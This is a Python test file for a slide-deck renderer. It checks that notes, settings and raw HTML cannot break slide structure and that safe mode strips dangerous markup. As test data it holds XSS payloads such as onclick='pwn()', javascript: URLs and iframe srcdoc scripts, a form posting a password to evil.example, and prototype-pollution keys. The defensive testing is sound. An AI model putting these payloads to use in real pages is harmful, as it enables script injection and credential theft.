"""Faults D3 to D5, D8, D10, D11 and D14: no text breaks a page, and no slide the others."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from diptych.options import Options
from diptych.reading.source import read_source
from diptych.standalone import SLIDES
from diptych.writing.slidepage import SlidePage, script_json
from sites.project import Project

from .hostile import (
    PATH,
    elements,
    harm,
    read_page,
    read_part,
    render_deck,
    sections,
    shape,
    text_of,
    write_part,
    write_site,
)
from .reading import said
from .vectors import VECTORS

CLOSERS = ("</aside>", "</section>", "</template>", "</textarea>", "</script>", "<!--", "<!-->",
           "</div></div></div>", "<section>", "</li></ul>", "<textarea>", "<title>", "<plaintext>",
           "<svg><desc>", "<table><tr>", "<select>", "<!-- --!>", "<template>", "</body></html>",
           "<!--></aside></section><section>-->", "<a title='</section>")  # fmt: skip


@pytest.mark.parametrize("is_block", [False, True])
@pytest.mark.parametrize("html", CLOSERS)
def test_d03_note_that_closes_too_much(html: str, *, is_block: bool) -> None:
    """Whatever stands in a note, the slides and notes of the page are as many as they were."""
    note = f"\n\n{html}\n\nBob" if is_block else f"Cid {html} Bob"
    pages = render_deck(f"# Ada\n\nNote: {note}\n---\n## Dan\n\n- Eve\n\nNote: Fay\n---\n## Gus\n")
    found = sections(pages.slides)
    assert [s.get("data-line") for s in found] == ["1", *(["9", "15"] if is_block else ["5", "11"])]
    assert [len(s.findall(".//aside")) for s in found] == [1, 1, 0]
    aside = found[0].find("aside")
    assert aside is not None
    assert "Bob" in text_of(aside)
    assert text_of(found[1]) == "Dan Eve Fay"
    assert text_of(found[2]) == "Gus"


@pytest.mark.parametrize("html", CLOSERS)
def test_d03_note_of_a_step(html: str) -> None:
    """The same of a note that stands in a fragment."""
    deck = f"# Ada\n\n- Bob\n\nNote: Cid\n+++\n# Ada\n\n- Bob\n- Dan\n\nNote: Eve {html} Fay\n"
    found = sections(render_deck(f"{deck}---\n# Gus\n").slides)
    assert len(found) == 2
    assert len(found[0].findall(".//aside")) == 2
    assert text_of(found[1]) == "Gus"


@pytest.mark.parametrize(
    "value",
    [
        "</script><script>pwn()</script>",
        "<!--<script>",
        "\u2028\u2029",
        "&lt;/script&gt;",
        ']]>"\\',
        "\x00\x7f",
    ],
)
def test_d04_settings(value: str, tmp_path: Path) -> None:
    """The settings of a page hold any text, and give it back."""
    written = script_json({value: [value]})
    assert not re.search("[<>&\u2028\u2029]", written)
    assert json.loads(written) == {value: [value]}
    write_site("# Ada\n", tmp_path)
    page = tmp_path.joinpath(SLIDES).read_text("utf-8")
    context = SlidePage("Ada", "", value, "assets", palette={"scope": value}).context(Options())
    mine = read_page(page.replace(
        re.search(r'"diptych-settings">(.*?)</script>', page)[1],  # type: ignore[index] # is there
        context["settings_json"],
    ))  # fmt: skip
    (settings,) = [e for _, e in elements(mine) if e.get("id") == "diptych-settings"]
    assert json.loads(settings.text or "")["article"] == value
    assert settings.get("type") == "application/json"


@pytest.mark.parametrize("key", ["__proto__", "constructor", "prototype", "constructor.prototype"])
def test_d05_keys_that_pollute(key: str) -> None:
    """A key that scripts know as part of every object is an error, and reaches no script."""
    text = f"---\ndiptych:\n  {key}: {{polluted: true}}\n---\n# Ada\n"
    source = read_source(text.encode(), path=PATH, options=Options())
    assert said(source.problems) == ["error 3 config-key"]
    assert "polluted" not in str(SlidePage("", "", "", "").context(source.options))


DANGEROUS = (
    '<p style="position:fixed;top:0">Ada</p>',
    '<p onclick="pwn()">Ada</p>',
    '<iframe srcdoc="<script>pwn()</script>">Ada</iframe>',
    '<button formaction="javascript:pwn()">Ada</button>',
    '<svg><a xlink:href="javascript:pwn()"><text>Ada</text></a></svg>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0">',
    '<object data="evil.swf">Ada</object>',
    '<form action="//evil.example/"><input name="password">Ada</form>',
)


@pytest.mark.parametrize("html", DANGEROUS)
def test_d08_dangerous_html(html: str) -> None:
    """`html: trust` keeps raw HTML as it is, `html: safe` drops what can harm and says so."""
    deck = f"# Kite\n---\n{html}\n---\nBob\n"
    trusted, safe = render_deck(deck), render_deck(deck, is_safe=True)
    assert html in trusted.slides
    assert said(trusted.problems) == []
    assert harm(read_part(safe.slides)) == []
    assert harm(read_part(safe.article)) == []
    assert {"warning 3 unsafe-html", "warning 3 unsafe-url"} >= set(said(safe.problems)) != set()
    assert ("Ada" in trusted.slides) == ("Ada" in safe.slides or "srcdoc" in html)


def test_d08_attributes_of_a_safe_slide() -> None:
    """What `.slide:` and `.element:` comments set is sanitised as well."""
    pages = render_deck(
        "# Kite\n---\n<!-- .slide: style='background:url(//evil.example)' class='a md-search'"
        ' data-background-iframe="https://evil.example/" -->\n\n## Ada\n\n- Bob'
        " <!-- .element: style='position:fixed;color:red' onclick='pwn()' -->\n",
        is_safe=True,
    )
    section = sections(pages.slides)[1]
    assert (section.get("class"), section.get("style") or "") == ("a", "")
    assert "evil" not in pages.slides
    assert [item.get("style") for item in section.iter("li")] == ["color:red"]
    assert said(pages.problems) == [
        "warning 3 unsafe-html",
        "warning 7 unknown-key",
        "warning 7 unsafe-html",
    ]


def test_d08_the_lines_of_what_is_left_out() -> None:
    """Messages lead to each tag, link and attribute, wherever it stands."""
    deck = """# Ada <script>1</script>
---
`<object>`

- Bob <object></object>
- [Cid](javascript:1) ![](javascript:2)

<b
onclick="1">Dan</b>[^1]

Eve <!-- .element: style="position:fixed" -->

<svg><g onclick="1"></g></svg>

[^1]: Fay
    <object></object>

Note: Gus

<p onclick="1">Hal</p>
---
<!-- .slide: class="reveal" -->

[Ian][i]

[i]: vbscript:1
"""
    assert said(render_deck(deck, is_safe=True).problems) == [
        f"warning {line} unsafe-{what}"
        for line, what in [(1, "html"), (5, "html"), (6, "url"), (8, "html"), (11, "html"),
                           (13, "html"), (16, "html"), (20, "html"), (22, "html"), (26, "url")]
    ]  # fmt: skip


def test_d08_the_site_decides(tmp_path: Path) -> None:
    """`html: safe` is an option of the plugin."""
    project = Project(tmp_path)
    project.configure(plugins=["search", {"diptych": {"html": "safe"}}])
    project.write({"index.md": "# Home\n", "talks/a.md": f"# Kite\n---\n{'&'.join(DANGEROUS)}\n"})
    site = project.build(is_strict=False)
    assert [m for m in site.logged("WARNING") if "talks/a.md:3: " in m and "[unsafe-html]" in m]
    for path in ("talks/a/index.html", "talks/a/slides.html"):
        page = site.folder.joinpath(path).read_text("utf-8")
        assert "pwn()" not in page
        assert "evil" not in page


@pytest.mark.parametrize("is_safe", [False, True])
@pytest.mark.parametrize(
    ("html", "warnings"),
    [
        ("<section>\n\nAda\n\n</section>", ["warning 3 html-section"]),
        ("<section class='x'>\n\nAda\n\n</section>", []),  # it sets the attributes of its slide
        ("<SECTION class='x'>Ada</SECTION>", ["warning 3 html-section"]),
        ("Ada <section >Bob</section >", ["warning 3 html-section"]),
    ],
)
def test_d10_section_in_a_slide(html: str, warnings: list[str], *, is_safe: bool) -> None:
    """A section of the author's adds no slide: the page has the slides that the deck has."""
    pages = render_deck(f"# Cid\n---\n{html}\n+++\nDan\n---\nEve\n", is_safe=is_safe)
    page = read_part(f"<div>{pages.slides}</div>")
    assert [len(s.findall("section")) for s in page[0]] == [0, 2, 0]
    assert len(page.findall(".//section")) == 5
    assert said(pages.problems) == warnings


@pytest.mark.parametrize("vector", VECTORS)
def test_d11_vector_in_a_safe_deck(vector: str) -> None:
    """No trick survives in either page; both are fixpoints; the other slides are untouched."""
    deck = f"# Ada\n---\n{vector}\n---\n## Bob {vector}\n\nNote: {vector}\n---\n## Cid\n"
    pages = render_deck(deck, is_safe=True)
    for html in (pages.article, pages.slides):
        tree = read_part(html)
        assert harm(tree) == []
        assert shape(tree) == shape(read_part(write_part(tree)))
    found = sections(pages.slides)
    assert text_of(found[0]) == "Ada"
    assert text_of(found[-1]) == "Cid"


@pytest.mark.parametrize("text", ["\\g<0> \\1", "%s %(x)s %d%%", "{0} {x} {}", "$1 $& ${x}",
                                  "{{ x }} {% x %}", "\\\\1 \\n", "diptych-place"])  # fmt: skip
def test_d14_text_that_means_something_elsewhere(text: str) -> None:
    """A deck's text is no pattern, format or template."""
    shown = text.replace("\\\\", "\\")
    pages = render_deck(
        f"# Ada `{text}`\n\n- Bob `{text}`\n\nNote: Cid `{text}`\n+++\n# Ada `{text}`\n\n"
        f"- Bob `{text}`\n- Dan `{text}`\n\nNote: Eve `{text}`\n+++\n## Fay\n\n> `{text}`\n"
    )
    for html in (pages.article, pages.slides):
        codes_shown = [e.text for name, e in elements(read_part(html)) if name == "code"]
        assert [text] * 6 == codes_shown, shown
